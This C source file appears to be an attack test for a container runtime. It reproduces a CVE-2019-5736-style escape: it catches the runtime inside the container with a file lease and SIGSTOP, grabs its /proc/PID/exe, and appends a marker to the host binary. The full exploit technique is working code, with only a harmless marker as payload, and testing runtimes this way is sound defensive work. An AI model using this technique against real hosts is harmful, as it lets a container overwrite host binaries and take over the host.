/* /proc/self/exe overwrite, in the style of CVE-2019-5736 (runc): when the
 * runtime enters the container (boxlab exec), its process is briefly
 * visible inside, and /proc/PID/exe of it is the runtime's binary on the
 * host.  The attack grabs it (O_PATH), waits until no process runs it any
 * more (ETXTBSY until then), reopens it for writing and appends a marker.
 * The host runs a COPY of boxlab for this (never the real binary), and
 * execs the trigger script "#!/proc/self/exe", which makes the runtime
 * re-execute itself inside the container, as the original exploit did
 * with /bin/sh; a lease on the trigger and a SIGSTOP hold the runtime
 * there (wait_lease), so the attack never races it.  ARG: the copy's name
 * (its processes' comm). */
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <sys/inotify.h>
#include <time.h>

/* The host tries `boxlab exec` this often (src/attack/canary_fs.c): a
 * runtime that came in this many times and could never be opened is
 * not going to be. */
#define EXEC_TRIES 12

static long now_ms(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static int try_pid(const char *pid, const char *copy, const char *trigger, int *last_errno)
{
	char path[300], comm[32] = "";
	snprintf(path, sizeof path, "/proc/%s/comm", pid);
	if (bxa_read_file(path, comm, sizeof comm) < 0 || (strcmp(comm, copy) && strcmp(comm, trigger)))
		return -1;
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int fd = open(path, O_PATH);
	if (fd < 0)
		*last_errno = errno;
	return fd;
}

/* The runtime is a new process: look at the newest pids (the kernel's
 * ns_last_pid) rather than all of /proc, or a host with a thousand
 * processes (no pid namespace) hides the short window. */
static int grab(const char *copy, const char *trigger, int *last_errno)
{
	char buf[32], pid[24];
	if (bxa_read_file("/proc/sys/kernel/ns_last_pid", buf, sizeof buf) == 0) {
		long last = atol(buf);
		int fd = -1;
		for (long p = last; fd < 0 && p > 0 && p > last - 64; p--) {
			snprintf(pid, sizeof pid, "%ld", p);
			fd = try_pid(pid, copy, trigger, last_errno);
		}
		return fd;
	}
	DIR *d = opendir("/proc");
	struct dirent *e;
	int fd = -1;
	while (d && fd < 0 && (e = readdir(d)))
		if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
			fd = try_pid(e->d_name, copy, trigger, last_errno);
	if (d)
		closedir(d);
	return fd;
}

/* The runtime blocked in its execve (below): its pid, newest first. */
static long blocked_runtime(const char *copy)
{
	char buf[32], path[64], comm[32];
	if (bxa_read_file("/proc/sys/kernel/ns_last_pid", buf, sizeof buf) < 0)
		return 0;
	for (long p = atol(buf); p > 0 && p > atol(buf) - 64; p--) {
		snprintf(path, sizeof path, "/proc/%ld/comm", p);
		if (bxa_read_file(path, comm, sizeof comm) == 0 && !strcmp(comm, copy))
			return p;
	}
	return 0;
}

/* /proc/PID/exe of the runtime once SIGSTOP holds it in the new program
 * (comm: the trigger's name); -1 when it stopped before (its execve was
 * interrupted and restarts) or is gone. */
static int open_stopped(long pid, const char *tname, int *err)
{
	char path[64], stat[512], comm[32];
	long start = now_ms();
	snprintf(path, sizeof path, "/proc/%ld/stat", pid);
	while (now_ms() - start < 2000) {
		char *st = NULL;
		if (bxa_read_file(path, stat, sizeof stat) < 0)
			return -1; /* gone */
		if ((st = strrchr(stat, ')')) && (st[2] == 'T' || st[2] == 't'))
			break;
		usleep(1000);
	}
	snprintf(path, sizeof path, "/proc/%ld/comm", pid);
	if (bxa_read_file(path, comm, sizeof comm) < 0 || strcmp(comm, tname))
		return -1;
	snprintf(path, sizeof path, "/proc/%ld/exe", pid);
	int fd = open(path, O_PATH);
	if (fd < 0)
		*err = errno;
	return fd;
}

/* The runtime is inside for a millisecond or two per `boxlab exec`, and
 * a loaded machine may not run the attack then.  So make it wait: hold a
 * write lease on the trigger (fcntl(2) F_SETLEASE): the runtime's execve
 * opens it, inside the container, and the kernel holds that open until
 * the lease is let go.  Then we know its pid, let it go and SIGSTOP it at
 * once: it stops as it returns into the new program, where its
 * capabilities are the container's (before the exec they are still the
 * runtime's own, and /proc/PID/exe refuses us).  Returns the fd, -1 (err
 * set) when it came in EXEC_TRIES times and could not be opened, -2 when
 * the filesystem takes no lease. */
static int wait_lease(int lease, const char *trigger, const char *copy, const char *tname, int *err)
{
	sigset_t brk;
	sigemptyset(&brk);
	sigaddset(&brk, SIGIO); /* the lease break's signal */
	sigprocmask(SIG_BLOCK, &brk, NULL);
	if (lease < 0 || fcntl(lease, F_SETLEASE, F_WRLCK) < 0)
		return -2;
	printf("READY %s\n", trigger);
	long start = now_ms();
	int fd = -1;
	for (int execs = 0; fd < 0 && execs < EXEC_TRIES && now_ms() - start < 15000;) {
		struct timespec tick = {0, 50 * 1000000};
		if (sigtimedwait(&brk, NULL, &tick) < 0)
			continue;
		execs++;
		long pid = blocked_runtime(copy);
		fcntl(lease, F_SETLEASE, F_UNLCK);
		if (pid > 0 && kill((pid_t)pid, SIGSTOP) == 0) {
			fd = open_stopped(pid, tname, err);
			kill((pid_t)pid, SIGCONT);
		}
		/* Take it again for the next exec once this one is done with
		 * the file (a write lease needs it open nowhere else). */
		while (fd < 0 && fcntl(lease, F_SETLEASE, F_WRLCK) < 0 && now_ms() - start < 15000)
			usleep(2000);
	}
	return fd;
}

/* Without a lease: sleep on inotify's IN_OPEN of the trigger (execve
 * opens it) and scan hard from then on; else just scan. */
static int wait_scan(const char *trigger, const char *copy, const char *tname, int *err)
{
	int in = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
	if (in >= 0 && inotify_add_watch(in, trigger, IN_OPEN) < 0) {
		close(in);
		in = -1;
	}
	printf("READY %s\n", trigger);
	int fd = -1, execs = 0;
	long start = now_ms();
	while (fd < 0 && execs < EXEC_TRIES && now_ms() - start < 15000) {
		struct pollfd p = {.fd = in, .events = POLLIN};
		if (in >= 0 && poll(&p, 1, 50) > 0) {
			char ev[4096];
			while (read(in, ev, sizeof ev) > 0)
				;
			execs++;
			long burst = now_ms();
			while ((fd = grab(copy, tname, err)) < 0 && now_ms() - burst < 200)
				;
		} else {
			fd = grab(copy, tname, err);
		}
	}
	if (in >= 0)
		close(in);
	return fd;
}

int main(int argc, char **argv)
{
	char **a = bxa_init(argc, argv, 1, "RUNTIME_COPY_NAME");
	char trigger[4096], tname[16];
	snprintf(tname, sizeof tname, "bxt%s", bxa_nonce);
	snprintf(trigger, sizeof trigger, "%s/%s", bxa_scratch, tname);
	int t = open(trigger, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (t < 0 || write(t, "#!/proc/self/exe\n", 17) != 17)
		return bxa_fail("write %s", trigger);
	close(t);
	int err = ENOENT, lease = open(trigger, O_RDONLY);
	int fd = wait_lease(lease, trigger, a[0], tname, &err);
	if (fd == -2)
		fd = wait_scan(trigger, a[0], tname, &err);
	if (lease >= 0)
		close(lease);
	if (fd < 0) {
		errno = err;
		return bxa_fail(err == ENOENT ? "never saw the runtime inside" : "open /proc/PID/exe of the runtime");
	}
	printf("GOT the runtime's binary as fd %d\n", fd);
	char self[64];
	snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
	int w = -1;
	long start = now_ms();
	while ((w = open(self, O_WRONLY | O_APPEND)) < 0 && errno == ETXTBSY && now_ms() - start < 8000)
		usleep(5000);
	if (w < 0)
		return bxa_fail("reopen the runtime's binary for writing");
	char mark[64];
	snprintf(mark, sizeof mark, "\nBXA-EXE-%s\n", bxa_nonce);
	if (write(w, mark, strlen(mark)) < 0)
		return bxa_fail("write the runtime's binary");
	close(w);
	bxa_claim(1, "appended a marker to the runtime's binary on the host");
	return 0;
}
